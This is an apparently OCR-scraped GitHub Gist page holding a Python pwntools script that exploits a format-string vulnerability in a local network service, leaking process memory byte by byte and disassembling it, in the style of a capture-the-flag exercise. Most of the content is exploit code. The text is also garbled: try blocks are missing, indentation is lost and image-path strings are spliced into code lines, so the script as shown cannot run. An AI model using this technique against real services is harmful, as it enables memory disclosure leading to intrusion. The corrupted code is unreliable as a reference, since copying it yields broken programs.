Skip to content

Instantly share code, notes, and snippets.

What would you like to do?
import binascii
import pwn
import sys
RHOST = "localhost"
RPORT = 54514
def leakStringAt(s,address):
data = "%6$pBBBB" + pwn.p64(address)
s.sendline("%6$sAAAA" + pwn.p64(address))
except EOFError:
raise EOFError
data = p.recv()
print " [R] leaked %d bytes" % len(data.split("AAAA")[0])
except EOFError:
print " [X] EOFError trying toleak from %x" % address
return None
(code,fuck) = data.split("AAAA")return code
def leakBlock(s,address,size):
remainingSize = size
out = bytearray("")
while remainingSize > 0:
data = leakStringAt(s,address + size - remainingSize)
except EOFError:
return out
if data == None:
remainingSize-= 1
out += bytearray(data)remainingSize -= len(data)+ 1
out += bytearray("\x00")
return out
if __name__ == "__main__":
p = pwn.remote(RHOST,RPORT)
data = leakBlock(p,0x400696,0x100)
print pwn.disasm(data,arch='amd64')
Sign up for free to join this conversation on GitHub. Already have an account? Sign into comment
You can’t perform thataction at this time.